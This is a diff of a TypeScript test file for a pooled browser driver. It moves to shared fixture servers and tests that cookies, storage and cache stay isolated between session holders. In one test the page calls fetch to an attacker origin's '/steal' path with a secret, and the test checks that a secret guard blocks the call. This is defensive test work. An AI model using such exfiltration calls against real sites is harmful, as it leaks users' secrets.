@@ -1,10 +1,13 @@
 import { writeFileSync } from "node:fs"
-import { createServer, type Server } from "node:http"
-import type { AddressInfo } from "node:net"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { UploadDirs } from "@sextant/core"
-import { type AttackerOrigin, startAttackerOrigin } from "@sextant/fixture-site"
+import {
+  type AttackerOrigin,
+  type IsolationOrigin,
+  startAttackerOrigin,
+  startIsolationOrigin,
+} from "@sextant/fixture-site"
 import { Effect, Exit, Scope } from "effect"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { createDriverPool, type DriverPool } from "../src/index.ts"
@@ -18,44 +21,21 @@ import { failing } from "./support/Failure.ts"
  * time. A server that counts its requests and logs their cookies tells what the browser sent.
  */
 
-interface Heard {
-  readonly path: string
-  readonly cookie: string | undefined
-}
-
-let server: Server
-let origin: string
+let site: IsolationOrigin
 let attacker: AttackerOrigin
-const heard: Array<Heard> = []
 
 beforeAll(async () => {
-  server = createServer((request, response) => {
-    const path = (request.url ?? "/").split("?")[0] ?? "/"
-    heard.push({ path, cookie: request.headers.cookie })
-    if (path === "/asset.js") {
-      // Cached for an hour: a second load in the same context never reaches the server.
-      response.writeHead(200, { "content-type": "text/javascript", "cache-control": "max-age=3600" })
-      response.end("window.assetLoaded = true")
-      return
-    }
-    const headers: Record<string, string> = { "content-type": "text/html" }
-    if (path === "/sign-in") headers["set-cookie"] = "server-session=holder-one; HttpOnly; Path=/"
-    response.writeHead(200, headers)
-    response.end(
-      `<!doctype html><html><head><title>${path}</title><link rel="icon" href="data:,"><script src="/asset.js"></script></head><body><button onclick="alert('pooled')">Alert</button><input type="file" id="file"></body></html>`,
-    )
+  site = await startIsolationOrigin({
+    cookie: "holder-one",
+    body: () => `<button onclick="alert('pooled')">Alert</button><input type="file" id="file">`,
   })
-  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
-  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
   attacker = await startAttackerOrigin()
 })
 
 afterAll(async () => {
   await attacker?.close()
-  await new Promise((resolve) => server?.close(resolve))
+  await site?.close()
 })
-
-const assetLoads = () => heard.filter((request) => request.path === "/asset.js").length
 
 const withPool = async <A>(size: number, use: (pool: DriverPool) => Promise<A>): Promise<A> => {
   const scope = await Effect.runPromise(Scope.make())
@@ -82,27 +62,27 @@ describe("a pooled session's browser context", () => {
         Effect.scoped(
           Effect.gen(function* () {
             const { session, driver } = yield* pool.acquire
-            yield* driver.navigate(`${origin}/sign-in`)
+            yield* driver.navigate(`${site.url}/sign-in`)
             const cookie = yield* driver.evaluate(leaveTraces(true))
-            const loadsBefore = assetLoads()
-            yield* driver.navigate(`${origin}/again`)
+            const loadsBefore = site.assetLoads()
+            yield* driver.navigate(`${site.url}/again`)
             // The cache works within a holder: the file came from it, not from the server.
-            expect(assetLoads()).toBe(loadsBefore)
+            expect(site.assetLoads()).toBe(loadsBefore)
             expect((yield* driver.tabs).length).toBe(2)
             return { profile: session.profileDir, cookie }
           }),
         ),
       )
       expect(first.cookie).toContain("script-cookie=holder-one")
-      expect(heard.some((request) => request.cookie?.includes("server-session=holder-one"))).toBe(true)
+      expect(site.heard.some((request) => request.cookie?.includes("server-session=holder-one"))).toBe(true)
 
-      const loadsBefore = assetLoads()
-      const sentBefore = heard.length
+      const loadsBefore = site.assetLoads()
+      const sentBefore = site.heard.length
       const second = await Effect.runPromise(
         Effect.scoped(
           Effect.gen(function* () {
             const { session, driver } = yield* pool.acquire
-            yield* driver.navigate(`${origin}/next-holder`)
+            yield* driver.navigate(`${site.url}/next-holder`)
             return {
               profile: session.profileDir,
               traces: (yield* driver.evaluate(readTraces)) as { cookie: string; stored: string | null },
@@ -115,8 +95,8 @@ describe("a pooled session's browser context", () => {
       expect(second.profile).toBe(first.profile)
       expect(second.traces).toEqual({ cookie: "", stored: null })
       expect(second.tabs).toBe(1)
-      expect(assetLoads()).toBe(loadsBefore + 1)
-      const sent = heard.slice(sentBefore)
+      expect(site.assetLoads()).toBe(loadsBefore + 1)
+      const sent = site.heard.slice(sentBefore)
       expect(sent.map((request) => request.path)).toContain("/next-holder")
       expect(sent.filter((request) => request.cookie !== undefined)).toEqual([])
     })
@@ -130,12 +110,12 @@ describe("a pooled session's browser context", () => {
             const one = yield* pool.acquire
             const two = yield* pool.acquire
             expect(two.session.profileDir).not.toBe(one.session.profileDir)
-            yield* one.driver.navigate(`${origin}/sign-in`)
+            yield* one.driver.navigate(`${site.url}/sign-in`)
             yield* one.driver.evaluate(leaveTraces(false))
-            const sentBefore = heard.length
-            yield* two.driver.navigate(`${origin}/other-holder`)
+            const sentBefore = site.heard.length
+            yield* two.driver.navigate(`${site.url}/other-holder`)
             expect(yield* two.driver.evaluate(readTraces)).toEqual({ cookie: "", stored: null })
-            const sent = heard.slice(sentBefore)
+            const sent = site.heard.slice(sentBefore)
             expect(sent.map((request) => request.path)).toContain("/other-holder")
             expect(sent.filter((request) => request.cookie !== undefined)).toEqual([])
           }),
@@ -147,19 +127,19 @@ describe("a pooled session's browser context", () => {
   it("still answers dialogs, blocks a secret leaving for another origin, uploads, lists a new tab and recovers a crashed tab in a later holder's context", async () => {
     await withPool(1, async (pool) => {
       await Effect.runPromise(
-        Effect.scoped(Effect.flatMap(pool.acquire, ({ driver }) => driver.navigate(origin))),
+        Effect.scoped(Effect.flatMap(pool.acquire, ({ driver }) => driver.navigate(site.url))),
       )
       await Effect.runPromise(
         Effect.scoped(
           Effect.gen(function* () {
             const { driver, session } = yield* pool.acquire
-            yield* driver.navigate(`${origin}/later`)
+            yield* driver.navigate(`${site.url}/later`)
             const clicked = yield* driver.act({ selector: "button" }, "click")
             expect(clicked.dialog?.text).toBe("pooled")
             yield* driver.respondToDialog(true)
             expect(yield* driver.dialog).toBeUndefined()
 
-            const guard = yield* driver.guardSecrets!({ values: ["pool-secret-77"], origins: [origin] })
+            const guard = yield* driver.guardSecrets!({ values: ["pool-secret-77"], origins: [site.url] })
             const answer = yield* driver.evaluate(
               `return fetch(arguments[0] + "/steal?p=pool-secret-77").then(() => "sent", () => "failed")`,
               [attacker.url],
@@ -192,7 +172,7 @@ describe("a pooled session's browser context", () => {
             )
             expect(crashed.message).toContain("the tab crashed")
             yield* driver.recoverTab!
-            expect((yield* driver.navigate(`${origin}/recovered`)).title).toBe("/recovered")
+            expect((yield* driver.navigate(`${site.url}/recovered`)).title).toBe("/recovered")
           }),
         ),
       )
